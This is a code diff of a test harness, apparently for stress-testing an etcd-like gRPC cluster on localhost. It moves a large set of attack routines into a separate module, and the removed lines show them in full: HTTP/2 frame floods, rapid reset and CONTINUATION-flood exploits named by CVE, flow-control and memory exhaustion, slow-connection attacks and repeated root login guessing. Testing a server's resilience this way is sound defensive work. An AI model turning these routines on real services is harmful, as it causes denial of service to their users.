@@ -8,7 +8,6 @@ usage: hostile.py --bin DIR --dir DIR --pb DIR [--replicas 3] [--tls CA,CERT,KEY
 import argparse
 import multiprocessing
 import os
-import random
 import select
 import signal
 import socket
@@ -19,8 +18,7 @@ import time
 
 import grpc
 
-from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST, SETTINGS, WINDOW, call, connect,
-                   frame, frames, headers, literal, message, settings, tls_context)
+from h2raw import DATA, END_HEADERS, GOAWAY, HEADERS, WINDOW, call, connect, frame, frames, headers, message, settings, tls_context
 
 ap = argparse.ArgumentParser()
 ap.add_argument("--bin", required=True)
@@ -38,9 +36,9 @@ ap.add_argument("attacks", nargs="*")
 args = ap.parse_args()
 sys.path.insert(0, args.pb)
 import rpc_pb2 as pb  # noqa: E402
+import attacks  # noqa: E402
 
 KV, LEASE, WATCH, AUTH, MAINTENANCE = (f"/etcdserverpb.{s}/" for s in ("KV", "Lease", "Watch", "Auth", "Maintenance"))
-WATCHES = 200000
 PASSED, FAILED = 0, 0
 TLS = args.tls.split(",") if args.tls else None
 SCHEME = "https" if TLS else "http"
@@ -53,10 +51,7 @@ def report(ok, what, why=""):
 
 
 def channel_to(port):
-    opts = [("grpc.max_receive_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
-    if TLS:
-        return grpc.secure_channel(f"127.0.0.1:{port}", grpc.ssl_channel_credentials(open(TLS[0], "rb").read()), options=opts)
-    return grpc.insecure_channel(f"127.0.0.1:{port}", options=opts)
+    return attacks.channel_to("127.0.0.1", port, TLS)
 
 
 def die_with_parent():
@@ -249,266 +244,10 @@ def be_honest(ports, token, pipe):
 
 # ---- attacks: each in a process of its own, until it is ended ----
 
-def varint(n):
-    out = b""
-    while n > 127:
-        out, n = out + bytes([n & 127 | 128]), n >> 7
-    return out + bytes([n])
-
-
-class Attack:
-    def __init__(self, port, tls, pids=()):
-        self.port, self.tls, self.sent, self.refused = port, tls, 0, 0
-        self.there = lambda: None  # says that all is there that is to be
-
-    def connect(self, **kw):
-        while True:
-            try:
-                return connect(self.port, self.tls, **kw)
-            except OSError:
-                self.refused += 1
-                time.sleep(0.02)
-
-    def flood(self, begin, more, n=4, read=True, **kw):
-        """Keeps @n connections full of what more(stream) gives for ever; begins anew when one is ended."""
-        conns = {}
-
-        def fresh():
-            s = self.connect(**kw)
-            first = begin(s) if begin else b""
-            s.setblocking(False)
-            conns[s] = [first, 0]
-
-        for _ in range(n):
-            fresh()
-        while True:
-            r, w, _ = select.select(list(conns) if read else [], list(conns), [], 1)
-            for s in r:
-                try:
-                    if not s.recv(1 << 18):
-                        raise ConnectionError
-                except (BlockingIOError, __import__("ssl").SSLWantReadError):
-                    pass
-                except OSError:
-                    conns.pop(s, None)
-                    s.close()
-                    fresh()
-            for s in w:
-                if s not in conns:
-                    continue
-                state = conns[s]
-                if not state[0]:
-                    state[0] = more(state)
-                try:
-                    k = s.send(state[0])
-                    self.sent += k
-                    state[0] = state[0][k:]
-                except (BlockingIOError, __import__("ssl").SSLWantWriteError, __import__("ssl").SSLWantReadError):
-                    pass
-                except OSError:
-                    conns.pop(s, None)
-                    s.close()
-                    fresh()
-
-    # -- what costs the loop --
-
-    def empty_data(self):
-        chunk = frame(DATA, 0, 1) * 20000
-        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")), lambda st: chunk)
-
-    def pings(self):
-        chunk = frame(PING, 0, 0, b"x" * 8) * 10000
-        self.flood(None, lambda st: chunk)
-
-    def settings(self):
-        chunk = frame(SETTINGS, 0, 0, b"\0\1\0\0\x10\0") * 10000
-        self.flood(None, lambda st: chunk)
-
-    def window_updates(self):
-        self.flood(None, lambda st: frame(WINDOW, 0, 0, b"\0\0\0\1") * 10000)
-
-    def priorities(self):
-        chunk = b"".join(frame(PRIORITY, 0, 1 + 2 * i, b"\0\0\0\0\x10") for i in range(10000))
-        self.flood(None, lambda st: chunk)
-
-    def streams(self, per_stream, at_once=200):
-        def more(state):
-            first = state[1]
-            state[1] += at_once
-            return b"".join(per_stream(1 + 2 * i) for i in range(first, first + at_once))
-        return more
-
-    def rapid_reset(self):  # CVE-2023-44487
-        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body) + frame(RST, 0, i, b"\0\0\0\x08")))
-
-    def continuations(self):  # CVE-2024-27316
-        chunk = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100) * 20
-        self.flood(lambda s: frame(HEADERS, 0, 1, headers(b"/etcdserverpb.KV/Range")), lambda st: chunk)
-
-    def header_references(self):
-        def begin(s):
-            return frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.KV/Range") + literal(b"token", b"t" * 3900, 0x40))
-        refs = headers(b"/etcdserverpb.KV/Range") + b"\xbe" * 15000
-
-        def more(state):
-            state[1] += 20
-            return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, refs) for i in range(state[1] - 19, state[1] + 1))
-        self.flood(begin, more)
-
-    def small_calls(self):
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Nothing", b"")))
-
-    def renewals(self):
-        chunk = frame(DATA, 0, 1, message(pb.LeaseKeepAliveRequest(ID=1).SerializeToString())) * 5000
-        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Lease/LeaseKeepAlive")), lambda st: chunk)
-
-    def calls(self, path, body):
-        """By gRPC's own hand, which minds the windows, in 8 threads for ever."""
-        def run():
-            with channel_to(self.port) as c:
-                f = c.unary_unary(path, request_serializer=None, response_deserializer=None)
-                while True:
-                    try:
-                        f(body, timeout=5)
-                    except grpc.RpcError:
-                        self.refused += 1
-
-        for _ in range(8):
-            threading.Thread(target=run, daemon=True).start()
-        time.sleep(1000)
-
-    def deep_messages(self):
-        body = b""
-        while len(body) < 74000:  # a transaction in a transaction in a transaction
-            for tag in (4, 2):
-                body = varint(tag << 3 | 2) + varint(len(body)) + body
-        self.calls("/etcdserverpb.KV/Txn", body)
-
-    def costly_txns(self):
-        """Each looks at as many keys as one may, and sorts them; and is a write, so that all replicas do it."""
-        look = pb.RangeRequest(key=b"many/", range_end=b"many0", sort_target=pb.RangeRequest.VALUE, sort_order=pb.RangeRequest.DESCEND, limit=1)
-        self.calls("/etcdserverpb.KV/Txn", pb.TxnRequest(success=[
-            pb.RequestOp(request_range=look), pb.RequestOp(request_put=pb.PutRequest(key=b"costly", value=b"x"))]).SerializeToString())
-
-    # -- what costs memory --
-
-    def watches(self):
-        """200,000, of keys that nobody writes, and of ranges beside them."""
-        made, streams = threading.Semaphore(0), 8
-
-        def run(at):
-            with channel_to(self.port) as c:
-                def ask():
-                    for i in range(WATCHES // streams):
-                        k = b"watched/%d/%d" % (at, i)
-                        yield pb.WatchRequest(create_request=pb.WatchCreateRequest(key=k, range_end=k + b"0" if i % 4 == 0 else b"")).SerializeToString()
-                    threading.Event().wait()
-                for _ in c.stream_stream("/etcdserverpb.Watch/Watch", request_serializer=None, response_deserializer=None)(ask()):
-                    made.release()
-
-        for i in range(streams):
-            threading.Thread(target=run, args=(i,), daemon=True).start()
-        for _ in range(WATCHES):
-            made.acquire()
-        self.there()
-        time.sleep(1000)
-
-    def unread_ranges(self):
-        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body)), n=8, read=False, receive=4096,
-                   hello=settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
-
-    def zero_windows(self):
-        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body)), n=8, hello=settings((4, 0)))
-
-    def one_byte_windows(self):
-        body = pb.RangeRequest(key=b"big/", range_end=b"big0").SerializeToString()
-
-        def more(state):
-            if state[1] < 2000:
-                state[1] += 200
-                return b"".join(call(1 + 2 * i, b"/etcdserverpb.KV/Range", body) for i in range(state[1] - 200, state[1]))
-            return b"".join(frame(WINDOW, 0, 1 + 2 * i, b"\0\0\0\1") for i in range(2000))
-        self.flood(None, more, n=8, hello=settings((4, 0)))
-
-    def large_answers_to_writes(self):
-        body = pb.PutRequest(key=b"big/0", value=b"x" * 60000, prev_kv=True).SerializeToString()
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Put", body), 50), n=4, read=False, receive=4096,
-                   hello=settings((4, 0x7fffffff)))
-
-    def half_messages(self):
-        def half(i):
-            return frame(HEADERS, END_HEADERS, i, headers(b"/etcdserverpb.KV/Put")) + b"".join(
-                frame(DATA, 0, i, (b"\0\0\x17\0\0" if k == 0 else b"") + b"x" * 16000) for k in range(4))
-        self.flood(None, self.streams(half, 50), n=8)
-
-    def half_watches(self):
-        def half(i):
-            return frame(HEADERS, END_HEADERS, i, headers(b"/etcdserverpb.Watch/Watch")) + frame(DATA, 0, i, b"\0\0\x17\0\0" + b"x" * 16000)
-        self.flood(None, self.streams(half, 50), n=8)
-
-    def refused_watches(self):
-        create = pb.WatchCreateRequest(key=b"x", watch_id=7)
-        chunk = frame(DATA, 0, 1, message(pb.WatchRequest(create_request=create).SerializeToString())) * 5000
-        self.flood(lambda s: frame(HEADERS, END_HEADERS, 1, headers(b"/etcdserverpb.Watch/Watch")), lambda st: chunk, read=False,
-                   receive=4096)
-
-    # -- what costs connections --
-
-    def idle(self):
-        conns = []
-        while len(conns) < 4000:
-            conns.append(self.connect())
-        time.sleep(1000)
-
-    def come_and_go(self):
-        while True:
-            self.connect().close()
-
-    def slow_bytes(self):
-        what = call(1, b"/etcdserverpb.KV/Range", b"\x0a\x01x")
-        conns = [self.connect(hello=b"") for _ in range(500)]
-        for i in range(1000):
-            for s in conns:
-                try:
-                    s.send(what[i % len(what):][:1])
-                except OSError:
-                    pass
-            time.sleep(1)
-
-    # -- the rest --
-
-    def reads(self):
-        body = pb.RangeRequest(key=b"many/0/0").SerializeToString()
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Range", body)), n=8)
-
-    def logins(self):
-        body = pb.AuthenticateRequest(name="root", password="guess").SerializeToString()
-        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.Auth/Authenticate", body), 20), n=1)
-
-    def garbage(self):
-        r = random.Random(1)
-        chunk = b"".join(frame(r.randrange(12), r.randrange(256), r.randrange(8), r.randbytes(r.randrange(64))) for _ in range(1000))
-        self.flood(None, lambda st: chunk)
-
-
-COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "rapid_reset", "continuations", "header_references",
-             "small_calls", "renewals", "garbage", "deep_messages", "costly_txns"]
-COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
-               "refused_watches", "watches"]
-COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
-ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
-
-
 def run_attack(name, port, pipe):
     die_with_parent()
     pipe.send("ready")
-    os.nice(10)  # an attacker has a machine of its own; here it takes what the replicas leave
-    a = Attack(port, tls_context(TLS[0]) if TLS else None)
-    a.there = lambda: pipe.send("there")
-    getattr(a, name)()
+    attacks.attack(name, "127.0.0.1", port, TLS, there=lambda: pipe.send("there"))
 
 
 def start_attack(name, port):
@@ -878,10 +617,10 @@ def follows(attack):
 
 def main():
     signal.signal(signal.SIGTERM, lambda *_: sys.exit("ended"))
-    attacks = args.attacks or ALL
-    unknown = [a for a in attacks if a not in ALL]
+    names = args.attacks or attacks.ALL
+    unknown = [a for a in names if a not in attacks.ALL]
     if unknown:
-        sys.exit(f"no such attack: {unknown}; there are: {' '.join(ALL)}")
+        sys.exit(f"no such attack: {unknown}; there are: {' '.join(attacks.ALL)}")
     cluster = Cluster()
     try:
         leader, term = cluster.leader()
@@ -904,7 +643,7 @@ def main():
                 leader, term = cluster.leader()
                 honest = Honest(cluster)
             check_large_answer()
-        for n_attack, (name, at_leader) in enumerate((a, b) for a in attacks for b in (True, False) if b or follows(a)):
+        for n_attack, (name, at_leader) in enumerate((a, b) for a in names for b in (True, False) if b or follows(a)):
             if name == "logins":
                 honest.stop()
                 honest = Honest(cluster, enable_auth(cluster, leader))
